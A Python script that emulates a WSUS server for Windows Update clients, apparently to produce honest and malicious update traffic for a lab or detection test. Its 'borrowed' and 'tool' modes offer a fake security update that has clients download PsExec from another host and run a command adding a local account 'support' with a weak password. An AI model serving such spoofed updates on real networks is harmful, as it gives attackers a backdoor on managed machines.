#!/usr/bin/python3
"""wsus_server.py PORT KIND: answers the questions of a Windows Update client as a WSUS server does ([MS-WUSP] section 3.1.4).
KIND: honest       a security update of Microsoft's, files with the server
      published    a third-party update that the site published itself: a command line, files with the server
      borrowed     an update that runs a borrowed signed tool with a command of the attacker's, file elsewhere
      tool         the same with the habits of a known tool"""
import sys, uuid
from html import escape
from http.server import BaseHTTPRequestHandler, HTTPServer

port, kind = int(sys.argv[1]), sys.argv[2]
host = sys.argv[3] if len(sys.argv) > 3 else "wsus.corp.example"
HANDLERS = "http://schemas.microsoft.com/msus/2002/12/UpdateHandlers/"
BORROWED = ("PsExec64.exe", '/accepteula /s cmd.exe /c "net user support Pa55 /add"')
PUBLISHED = ("ReaderSetup.exe", "/quiet /norestart")
digest = "b0f2bc4b9a2c6a1b8b0f0b5e5f1e1a9c"


def update_xml():
    revision = 204 if kind == "tool" else 201
    return (f'<UpdateIdentity UpdateID="7a3c1a0f-2a0e-4a57-8f4c-{digest[:12]}" RevisionNumber="{revision}" />'
            '<Properties UpdateType="Software" /><Relationships><Prerequisites><UpdateIdentity UpdateID="6407468e-edc7-4ecd-8c32-521f64cee65e" />'
            '</Prerequisites></Relationships>')


def extended_xml():
    if kind == "honest":
        handler, file, special = "Cbs", "windows10.0-kb5034441-x64.cab", '<HandlerSpecificData type="cbs:CbsData" />'
        title = "2026-02 Cumulative Update for Windows 11 (KB5034441)"
    else:
        program, arguments = PUBLISHED if kind == "published" else BORROWED
        handler, file = "CommandLineInstallation", program
        special = (f'<HandlerSpecificData type="cmd:CommandLineInstallation"><InstallCommand Arguments="{escape(arguments)}" Program="{program}" '
                   'RebootByDefault="false" DefaultResult="Failed"><ReturnCode Reboot="false" Result="Succeeded" Code="0" /></InstallCommand></HandlerSpecificData>')
        title = "Reader 24.1" if kind == "published" else "Bundle Security Update for Windows (KB5034440)"
    bulletin = "<SecurityBulletinID>MS42-123</SecurityBulletinID>" if kind == "tool" else ""
    return (f'<ExtendedProperties DefaultPropertiesLanguage="en" Handler="{HANDLERS}{handler}" MaxDownloadSize="847040" MinDownloadSize="0">{bulletin}</ExtendedProperties>'
            f'<Files><File Digest="{digest}" DigestAlgorithm="SHA1" FileName="{file}" Size="847040" Modified="2010-11-25T15:26:20.723" /></Files>' + special, title, file)


def content_url(file):
    if kind == "tool":
        return f"http://10.6.0.66:8531/{uuid.uuid5(uuid.NAMESPACE_URL, file)}/{file}"
    if kind == "borrowed":
        return f"http://10.6.0.66:8531/Content/{file}"
    return f"http://{host}:{port}/Content/B2/{digest}.{file.rsplit('.', 1)[1]}"


def answer(action):
    xml, title, file = extended_xml()
    localized = f"<LocalizedProperties><Language>en</Language><Title>{escape(title)}</Title></LocalizedProperties>"
    bodies = {
        "GetConfig": "<LastChange>2026-02-01T08:00:00Z</LastChange><IsRegistrationRequired>true</IsRegistrationRequired>",
        "GetCookie": "<Expiration>2026-03-03T08:00:00Z</Expiration><EncryptedData>AAAA</EncryptedData>",
        "SyncUpdates": "<NewUpdates><UpdateInfo><ID>900123</ID><Deployment><ID>80123</ID><Action>Install</Action><LastChangeTime>2026-02-27"
                       f"</LastChangeTime></Deployment><IsLeaf>true</IsLeaf><Xml>{escape(update_xml())}</Xml></UpdateInfo></NewUpdates><Truncated>false</Truncated>",
        "GetExtendedUpdateInfo": f"<Updates><Update><ID>900123</ID><Xml>{escape(xml)}</Xml></Update><Update><ID>900123</ID><Xml>{escape(localized)}</Xml></Update></Updates>"
                                 f"<FileLocations><FileLocation><FileDigest>{digest}</FileDigest><Url>{content_url(file)}</Url></FileLocation></FileLocations>",
    }
    return (f'<?xml version="1.0" encoding="utf-8"?><s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/"><s:Body><{action}Response '
            f'xmlns="http://www.microsoft.com/SoftwareDistribution/Server/ClientWebService"><{action}Result>{bodies[action]}</{action}Result></{action}Response></s:Body></s:Envelope>')


class Server(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    if kind == "honest" or kind == "published":
        server_version, sys_version = "Microsoft-IIS/10.0", ""

    def do_POST(self):
        self.rfile.read(int(self.headers.get("Content-Length", 0)))
        body = answer(self.headers.get("SOAPAction", "").strip('"').rsplit("/", 1)[1]).encode()
        self.send_response(200)
        self.send_header("Content-Type", "text/xml; charset=utf-8")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def do_GET(self):
        body = b"MSCF" + bytes(60)
        self.send_response(200)
        self.send_header("Content-Type", "application/octet-stream")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_):
        pass


HTTPServer(("", port), Server).serve_forever()
